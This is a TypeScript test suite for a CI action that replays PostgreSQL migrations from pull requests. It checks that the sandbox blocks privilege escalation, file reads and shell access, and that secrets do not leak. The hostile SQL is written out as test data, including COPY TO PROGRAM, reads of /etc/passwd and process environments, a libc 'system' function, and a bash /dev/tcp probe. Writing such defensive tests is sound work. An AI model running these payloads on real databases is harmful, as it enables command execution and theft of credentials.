import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { systemClock } from '@stability-actions/common/clock';
import { parseDatabaseUrl } from '@stability-actions/migrations/postgres/database-target';
import {
  ownDatabase,
  ownServer,
  type Scratch,
  withConnection,
} from '@stability-actions/migrations/postgres/server/scratch-database';
import { afterAll, beforeAll, describe, expect, inject, it, onTestFinished } from 'vitest';
import { embeddedBinaries } from '../../../packages/cli/src/embedded-binaries.ts';
import { writeFolder } from '../../fixtures/folder.ts';
import { createRepository } from '../../fixtures/git-repository.ts';
import { runAction } from '../../fixtures/runner.ts';

const binFolder = async () => dirname((await embeddedBinaries()).postgres);

const options = async () => ({
  postgresVersion: undefined,
  superuser: false,
  env: { PGBIN: await binFolder() },
  clock: systemClock,
  log: { info: () => {}, group: <T>(_: string, body: () => Promise<T>) => body() },
  signal: new AbortController().signal,
});

/** What a pull request's file may try; each is SQL that a superuser's replay would have run. */
const ATTACKS: [name: string, sql: string][] = [
  ['a program writes', "COPY (SELECT 1) TO PROGRAM 'env > /tmp/stability-hostile'"],
  ['a program reads', "CREATE TABLE out (line text); COPY out FROM PROGRAM 'cat /proc/self/environ'"],
  ['a file is read', "CREATE TABLE out (line text); COPY out FROM '/etc/passwd'"],
  ['a file is read by a function', "SELECT pg_read_file('/etc/passwd')"],
  ['a folder is listed', "SELECT pg_ls_dir('/')"],
  ['a file is written', "COPY (SELECT 1) TO '/tmp/stability-hostile'"],
  ['a large object is written', "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/stability-hostile')"],
  ['a large object is read', "SELECT lo_import('/etc/passwd')"],
  ['it makes itself superuser', 'ALTER ROLE CURRENT_USER SUPERUSER'],
  ['it makes a superuser', 'CREATE ROLE boss SUPERUSER LOGIN'],
  ['it gives itself programs', 'GRANT pg_execute_server_program TO CURRENT_USER'],
  ['it gives another role programs', 'CREATE ROLE other; GRANT pg_execute_server_program TO other'],
  ['it gives itself files', 'GRANT pg_read_server_files, pg_write_server_files TO CURRENT_USER'],
  ['it becomes postgres', 'SET ROLE postgres'],
  ['it becomes postgres for the session', 'SET SESSION AUTHORIZATION postgres'],
  ['it changes the password of postgres', "ALTER ROLE postgres PASSWORD 'x'"],
  ['it reads the passwords', 'SELECT 1 / count(*) FROM pg_authid WHERE rolsuper AND rolpassword IS NOT NULL'],
  ['files as tables', 'CREATE EXTENSION file_fdw'],
  ['connections', 'CREATE EXTENSION dblink'],
  ['a subscription', "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p"],
  ['a language of programs', 'CREATE EXTENSION plpython3u'],
  ['a C function', "CREATE FUNCTION f(cstring) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c STRICT"],
  ['an internal function', "CREATE FUNCTION f(text) RETURNS text AS 'pg_read_file_all' LANGUAGE internal"],
  ['a library', "LOAD '/tmp/evil.so'"],
  ['a setting of the server', "ALTER SYSTEM SET archive_command = 'touch /tmp/stability-hostile'"],
  ['a library for every session', "ALTER ROLE CURRENT_USER SET session_preload_libraries = '/tmp/evil'"],
  [
    "a superuser's function takes orders",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE 'ALTER ROLE ' || session_user || ' SUPERUSER'; END $$; SELECT f()",
  ],
  [
    'its function is given to a superuser',
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$; ALTER FUNCTION f() OWNER TO postgres',
  ],
  [
    'a trap for every session',
    'CREATE FUNCTION t() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$; CREATE EVENT TRIGGER e ON login EXECUTE FUNCTION t()',
  ],
  ['a catalogue is changed', 'UPDATE pg_authid SET rolsuper = true'],
  ['a catalogue may be changed', 'SET allow_system_table_mods = on'],
];

/** What migrations of real folders do, and an owner may. */
const USUAL = [
  'CREATE SCHEMA app; CREATE TABLE app.t (id int PRIMARY KEY); ALTER SCHEMA app RENAME TO app2',
  'CREATE EXTENSION pgcrypto; CREATE EXTENSION citext; CREATE EXTENSION IF NOT EXISTS "uuid-ossp"',
  "COMMENT ON EXTENSION plpgsql IS 'PL/pgSQL procedural language'",
  "COMMENT ON SCHEMA public IS 'standard public schema'; GRANT USAGE ON SCHEMA public TO PUBLIC",
  'CREATE ROLE app_user LOGIN; CREATE ROLE service_role NOLOGIN BYPASSRLS; GRANT app_user TO service_role; SET ROLE app_user; RESET ROLE',
  'GRANT pg_read_all_data TO app_user; ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app_user',
  'SET session_replication_role = replica; RESET session_replication_role',
  "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET timezone TO %L', current_database(), 'UTC'); END $$",
  'CREATE TABLE r (id int); ALTER TABLE r ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON r FOR SELECT TO app_user USING (true)',
  'CREATE PUBLICATION pub FOR TABLE r',
  'DROP SCHEMA public CASCADE; CREATE SCHEMA public; DROP OWNED BY app_user; DROP ROLE app_user, service_role',
];

describe.each(['a server of its own', 'a given server, as its superuser'])('the replay on %s', (where) => {
  let scratch: Scratch;
  beforeAll(async () => {
    const made =
      where === 'a server of its own'
        ? await ownServer(await options())
        : await ownDatabase(parseDatabaseUrl(inject('serverUrl'), 'test'), await options());
    if (made === undefined) throw new Error('no server');
    scratch = made;
  });
  afterAll(() => scratch.remove());

  const run = async (sql: string) =>
    withConnection(scratch.target, await options(), async (connection) => {
      await connection.query('BEGIN');
      try {
        await connection.query(sql);
        return 'it ran';
      } catch (error) {
        return String((error as { code?: string }).code);
      } finally {
        await connection.query('ROLLBACK').catch(() => {});
      }
    });

  it.each(ATTACKS)('%s: refused', async (_, sql) => {
    // Insufficient privilege; nothing there; no such file in an owner's reach; a setting that only the start of the server changes.
    expect(await run(sql)).toMatch(/^(42501|0A000|58P01|55P02|25001|22012)$/);
    expect(existsSync('/tmp/stability-hostile')).toBe(false);
  });

  it('what an owner may do works', async () => {
    await withConnection(scratch.target, await options(), async (connection) => {
      for (const sql of USUAL) {
        if (where !== 'a server of its own' && sql.includes('pg_read_all_data')) continue;
        await connection.query(sql);
      }
    });
  });
});

it('a file that wants a shell is red, names the statement and the remedy, and has run nothing', async () => {
  const loot = join(tmpdir(), `stability-loot-${randomUUID()}`);
  const cwd = await writeFolder({
    'migrations/1_a.sql': 'CREATE TABLE t (a text);',
    'migrations/2_b.sql': `COPY t TO PROGRAM 'env > ${loot}';`,
  });
  const run = await runAction('validate-migrations', {
    cwd,
    eventName: 'pull_request',
    inputs: { replay: 'required' },
    env: { PGBIN: await binFolder() },
  });
  expect(run.exitCode, run.log).toBe(1);
  expect(run.log).toMatch(/The statement 'COPY t TO PROGRAM .* needs rights/);
  expect(run.log).toContain('replay-superuser: true');
  expect(existsSync(loot)).toBe(false);
});

it('even as superuser a file sees no token and reaches no network', async () => {
  let visits = 0;
  const listener = createServer((socket) => {
    visits += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  onTestFinished(() => void listener.close());
  await new Promise((resolve) => listener.once('listening', resolve));
  const address = listener.address();
  const port = typeof address === 'object' ? address?.port : 0;
  const cwd = await writeFolder({
    'migrations/1_a.sql': `CREATE TABLE seen (line text);
COPY seen FROM PROGRAM 'env; bash -c "exec 3<>/dev/tcp/127.0.0.1/${port}" 2>/dev/null && echo REACHED; echo LOOT $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c "hunt[e]r2")';
DO $$ BEGIN RAISE EXCEPTION '%', (SELECT string_agg(line, ' ') FROM seen); END $$;`,
  });
  const run = await runAction('validate-migrations', {
    cwd,
    eventName: 'pull_request',
    inputs: { replay: 'required', 'replay-superuser': 'true', 'github-token': 'ghs_secret' },
    env: { PGBIN: await binFolder(), MY_SECRET: 'hunter2', ACTIONS_RUNTIME_TOKEN: 'runtime' },
  });
  expect(run.exitCode, run.log).toBe(1);
  expect(run.log).toContain('PATH=/usr/bin:/bin');
  expect(run.log).not.toMatch(/^(?!::add-mask::).*(hunter2|ghs_secret|ACTIONS_RUNTIME|INPUT_|GITHUB_)/m);
  // A namespace of its own, or another user: else the page says what it reads.
  if (run.log.includes('and no network.') || process.getuid?.() === 0) expect(run.log).toContain('LOOT 0');
  if (run.log.includes('and no network.')) expect([visits, run.log.includes('REACHED')]).toEqual([0, false]);
});

it.each([
  ["the base's commit", false, 0],
  ["a stranger's commit", true, 1],
])('pull_request_target with %s checked out', async (_, foreign, exitCode) => {
  const repository = await createRepository();
  const base = await repository.commit({ 'migrations/1_a.sql': 'CREATE TABLE t (a text);' });
  if (foreign) await repository.commit({ 'migrations/2_b.sql': 'CREATE TABLE u (a text);' });
  const run = await runAction('validate-migrations', {
    cwd: repository.folder,
    eventName: 'pull_request_target',
    inputs: { replay: 'required' },
    env: { PGBIN: await binFolder(), GITHUB_SHA: base },
  });
  expect(run.exitCode, run.log).toBe(exitCode);
  expect(run.log.includes("refused, because a run of 'pull_request_target' has the repository's secrets")).toBe(
    foreign,
  );
});
